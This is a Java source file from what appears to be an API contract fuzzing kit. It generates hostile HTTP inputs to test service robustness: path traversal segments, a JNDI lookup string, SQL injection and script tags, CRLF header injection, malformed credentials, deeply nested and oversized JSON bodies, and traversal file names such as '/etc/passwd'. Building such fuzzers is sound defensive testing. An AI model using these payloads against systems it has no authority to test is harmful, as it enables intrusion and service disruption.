package org.dsscontractkit.contract.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The catalogue of hostile inputs: path segments, header and query garbage, malformed and oversized bodies. Every
 * choice is drawn from the request's own random source, so that a request is made again from its seed and index.
 */
final class HostileInputs {

    /** Nesting depth of the deeply nested bodies (Jackson's own default limit is 1 000). */
    static final int DEEP_NESTING = 10_000;
    static final int OVERSIZED_MIN = 2 * 1024 * 1024;
    static final int OVERSIZED_SPREAD = 2 * 1024 * 1024;

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Stands for the huge string in the serialised body, then replaced by it byte for byte. */
    private static final String BIG = "fuzz-big-string-7f3a9c";

    /**
     * Path segments, already as they go on the wire (percent-encoded on purpose, or raw unicode on purpose), by kind:
     * NUL, traversal, very long, unicode (valid, overlong, invalid UTF-8), %-garbage, and other surprises. Each
     * operation goes through the kinds in turn.
     */
    static final List<List<String>> PATH_SEGMENT_KINDS = List.of(
            List.of("%00", "fuzz%00", "%00..%00"),
            List.of("..", "%2e%2e", "%2E%2E%2F", "..%2F..%2F..%2F", "..%2F..%2F..%2Fadmin%2Flogs", "%2F", "%2F%2F",
                    "%5C..%5C..%5C", "..%5C", ".%2F.", "%252e%252e%252f"),
            List.of("a".repeat(300), "A".repeat(9000), "%41".repeat(3000)),
            List.of("%C3%A9t%C3%A9%F0%9F%98%80", "été😀", "%E2%80%AE%E2%80%8B", "%C0%AE%C0%AE", "%FF%FE", "%ED%A0%80"),
            List.of("%", "%zz", "%%", "%2", "100%", "%u0041"),
            List.of("%20", "%0d%0aX-Fuzz:%201", "%3Bjsessionid=1", ";", "%23fragment", "%3F=1", "*", "%7B%7D",
                    "$%7Bjndi:ldap:%2F%2Ffuzz.invalid%2Fx%7D", "%27%20OR%20%271%27=%271", "\"", "<script>", ""));

    /** Index of the traversal kind in {@link #PATH_SEGMENT_KINDS}. */
    static final int TRAVERSAL = 1;

    static final List<String> PATH_SEGMENTS = PATH_SEGMENT_KINDS.stream().flatMap(List::stream).toList();

    static final List<String> UNKNOWN_KEYS = List.of("fuzzUnknown", "__proto__", "constructor", "", "\u0000",
            "k".repeat(3000), "été😀", "$where", "a.b.c", "[0]");

    private HostileInputs() {
    }

    static <T> T pick(List<T> values, SplittableRandom random) {
        return values.get(random.nextInt(values.size()));
    }

    /** @return the text percent-encoded but for RFC 3986's unreserved characters */
    static String encode(String value) {
        StringBuilder out = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xff;
            if (c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '.'
                    || c == '_' || c == '~') {
                out.append((char) c);
            } else {
                out.append('%').append(Character.toUpperCase(Character.forDigit(c >> 4, 16)))
                        .append(Character.toUpperCase(Character.forDigit(c & 0xf, 16)));
            }
        }
        return out.toString();
    }

    /** @return the text encoded like {@link #encode} except '%', so that deliberate %-garbage reaches the wire */
    static String encodeKeepingPercent(String value) {
        StringBuilder out = new StringBuilder();
        int from = 0;
        for (int at = value.indexOf('%'); at >= 0; at = value.indexOf('%', from)) {
            out.append(encode(value.substring(from, at))).append('%');
            from = at + 1;
        }
        return out.append(encode(value.substring(from))).toString();
    }

    // ---- credentials ----------------------------------------------------------------------------------------

    static String basic(String key) {
        return "Basic " + java.util.Base64.getEncoder().encodeToString((key + ":").getBytes(StandardCharsets.UTF_8));
    }

    static String unknownKey(SplittableRandom random) {
        return "fuzz-unknown-" + Long.toHexString(random.nextLong());
    }

    /** @return header name and value of an Authorization (or ticket) that carries no usable key */
    static String[] malformedCredentials(SplittableRandom random) {
        String unknown = unknownKey(random);
        List<String[]> choices = List.of(
                new String[] {"Authorization", "Basic !!!not-base64!!!"},
                new String[] {"Authorization", "Basic"},
                new String[] {"Authorization", "Basic "},
                new String[] {"Authorization", basic("")},
                new String[] {"Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(":".getBytes(StandardCharsets.UTF_8))},
                new String[] {"Authorization", "Bearer"},
                new String[] {"Authorization", "Bearer " + unknown},
                new String[] {"Authorization", "Digest username=\"admin\", realm=\"dss\", nonce=\"x\", response=\"y\""},
                new String[] {"Authorization", "Negotiate YIIB"},
                new String[] {"Authorization", "basic " + "A".repeat(5000)},
                new String[] {"Authorization", "Basic " + java.util.Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0, ':'})},
                new String[] {"X-DKU-APITicket", unknown},
                new String[] {"X-DKU-APITicket", "../../admin"});
        return pick(choices, random);
    }

    // ---- JSON bodies ----------------------------------------------------------------------------------------

    static byte[] json(JsonNode value) {
        try {
            return SchemaValues.JSON.writeValueAsBytes(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException("cannot serialise a fuzz body", e);
        }
    }

    /** Sets {@code value} at {@code path} ("[]" = first array item), creating what is missing; returns the new root. */
    static JsonNode setAt(JsonNode root, List<String> path, JsonNode value) {
        if (path.isEmpty()) {
            return value;
        }
        String step = path.get(0);
        List<String> rest = path.subList(1, path.size());
        if ("[]".equals(step)) {
            ArrayNode array = root instanceof ArrayNode a ? a : NODES.arrayNode();
            JsonNode child = array.size() > 0 ? array.get(0) : NODES.nullNode();
            JsonNode updated = setAt(child, rest, value);
            if (array.size() > 0) {
                array.set(0, updated);
            } else {
                array.add(updated);
            }
            return array;
        }
        ObjectNode object = root instanceof ObjectNode o ? o : NODES.objectNode();
        JsonNode child = object.get(step);
        object.set(step, setAt(child == null ? NODES.nullNode() : child, rest, value));
        return object;
    }

    record Malformed(String what, byte[] body) {
    }

    static Malformed malformedJson(JsonNode base, SplittableRandom random) {
        byte[] valid = json(base);
        String text = new String(valid, StandardCharsets.UTF_8);
        int variant = random.nextInt(19);
        return switch (variant) {
            case 0 -> {
                int cut = valid.length < 2 ? 1 : 1 + random.nextInt(valid.length - 1);
                yield new Malformed("truncated after " + cut + " bytes", Arrays.copyOf(valid, Math.min(cut, valid.length)));
            }
            case 1 -> new Malformed("trailing garbage", utf8(text + " }}]]garbage"));
            case 2 -> new Malformed("single quotes", utf8(text.replace('"', '\'')));
            case 3 -> new Malformed("unquoted names", utf8("{name: 1, projectKey: X}"));
            case 4 -> new Malformed("trailing comma", utf8("{\"a\":1,}"));
            case 5 -> new Malformed("comment", utf8("/* comment */ " + text));
            case 6 -> new Malformed("NaN value", utf8("{\"a\": NaN, \"b\": Infinity}"));
            case 7 -> new Malformed("leading zero", utf8("{\"a\": 01}"));
            case 8 -> new Malformed("bad escape", utf8("{\"a\": \"\\u00zz\\q\"}"));
            case 9 -> new Malformed("invalid UTF-8", concat(utf8("{\"a\": \""), new byte[] {(byte) 0xff, (byte) 0xfe, (byte) 0xc0, (byte) 0x80}, utf8("\"}")));
            case 10 -> new Malformed("UTF-16LE without a charset", text.getBytes(StandardCharsets.UTF_16LE));
            case 11 -> new Malformed("empty", new byte[0]);
            case 12 -> new Malformed("whitespace only", utf8("  \n\t \r\n"));
            case 13 -> new Malformed("two documents", utf8(text + text));
            case 14 -> new Malformed("raw NUL in a string", utf8("{\"a\": \"x\u0000y\"}"));
            case 15 -> new Malformed("huge exponent", utf8("{\"a\": 1e999999999, \"b\": -1e-999999999}"));
            case 16 -> new Malformed("bare minus", utf8("{\"a\": -}"));
            case 17 -> new Malformed("lone surrogate escape", utf8("{\"a\": \"\\ud800\", \"\\udfff\": 1}"));
            default -> new Malformed("unterminated string", utf8("{\"a\": \"" + "x".repeat(100)));
        };
    }

    /** @return a JSON text nested {@code depth} levels, as arrays or objects, alone or inside the base object */
    static Malformed deeplyNested(JsonNode base, SplittableRandom random) {
        int depth = random.nextInt(5) == 0 ? 10 * DEEP_NESTING : DEEP_NESTING;
        boolean objects = random.nextBoolean();
        StringBuilder deep = new StringBuilder(depth * 6);
        if (objects) {
            deep.append("{\"a\":".repeat(depth)).append('1').append("}".repeat(depth));
        } else {
            deep.append("[".repeat(depth)).append("]".repeat(depth));
        }
        if (base instanceof ObjectNode object && object.size() > 0 && random.nextBoolean()) {
            String property = object.fieldNames().next();
            ObjectNode copy = object.deepCopy();
            copy.put(property, "\u0001DEEP\u0001");
            String text = new String(json(copy), StandardCharsets.UTF_8).replace("\"\\u0001DEEP\\u0001\"", deep);
            return new Malformed(depth + " levels of " + (objects ? "objects" : "arrays") + " in property " + property, utf8(text));
        }
        return new Malformed(depth + " levels of " + (objects ? "objects" : "arrays"), utf8(deep.toString()));
    }

    /** @return a body of several MB: JSON holding a huge string or array, or bytes that are no JSON at all */
    static Malformed oversized(JsonNode base, SplittableRandom random) {
        int size = OVERSIZED_MIN + random.nextInt(OVERSIZED_SPREAD);
        int variant = random.nextInt(3);
        if (variant == 0 && base instanceof ObjectNode object) {
            ObjectNode copy = object.deepCopy();
            String property = object.size() > 0 && random.nextBoolean() ? object.fieldNames().next() : "fuzzPadding";
            copy.put(property, BIG);
            String text = new String(json(copy), StandardCharsets.UTF_8);
            int at = text.indexOf(BIG);
            byte[] before = utf8(text.substring(0, at));
            byte[] after = utf8(text.substring(at + BIG.length()));
            byte[] body = new byte[before.length + size + after.length];
            System.arraycopy(before, 0, body, 0, before.length);
            Arrays.fill(body, before.length, before.length + size, (byte) 'x');
            System.arraycopy(after, 0, body, before.length + size, after.length);
            return new Malformed("JSON with a " + FuzzRequest.describeSize(size) + " string in " + property, body);
        }
        if (variant <= 1) {
            byte[] item = utf8("1234567,");
            byte[] body = new byte[size - size % item.length + 2];
            tile(item, body, 1, body.length - 1);
            body[0] = '[';
            body[body.length - 2] = '0';
            body[body.length - 1] = ']';
            return new Malformed("a JSON array of " + FuzzRequest.describeSize(body.length), body);
        }
        // 64 KB of noise from the request's random source, repeated: random enough for a parser, and cheap
        byte[] noise = new byte[64 * 1024];
        random.nextBytes(noise);
        byte[] bytes = new byte[size];
        tile(noise, bytes, 0, size);
        return new Malformed(FuzzRequest.describeSize(size) + " of random bytes", bytes);
    }

    /** Fills {@code target[from, to)} with {@code pattern} repeated, by doubling copies. */
    private static void tile(byte[] pattern, byte[] target, int from, int to) {
        int length = Math.min(pattern.length, to - from);
        System.arraycopy(pattern, 0, target, from, length);
        for (int filled = length; filled < to - from; filled *= 2) {
            System.arraycopy(target, from, target, from + filled, Math.min(filled, to - from - filled));
        }
    }

    // ---- multipart ------------------------------------------------------------------------------------------

    static String boundary(SplittableRandom random) {
        return "----fuzz" + Long.toHexString(random.nextLong());
    }

    static byte[] multipart(String boundary, String partName, String fileName, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(content.length + 256);
        String disposition = "form-data; name=\"" + partName + "\"" + (fileName == null ? "" : "; filename=\"" + fileName + "\"");
        out.writeBytes(utf8("--" + boundary + "\r\nContent-Disposition: " + disposition
                + "\r\nContent-Type: application/octet-stream\r\n\r\n"));
        out.writeBytes(content);
        out.writeBytes(utf8("\r\n--" + boundary + "--\r\n"));
        return out.toByteArray();
    }

    static final List<String> HOSTILE_FILE_NAMES = List.of("../../../../../../../../fuzz-escaped.csv",
            "..\\..\\..\\fuzz-escaped.csv", "fuzz%00.csv", "fuzz\u0000.csv", "", "x".repeat(5000) + ".csv",
            "été😀.csv", "CON", "/etc/passwd", ".", "..", "a/b/c.csv", "fuzz\r\nX-Injected: 1.csv", "fuzz\".csv");

    // ---- helpers --------------------------------------------------------------------------------------------

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
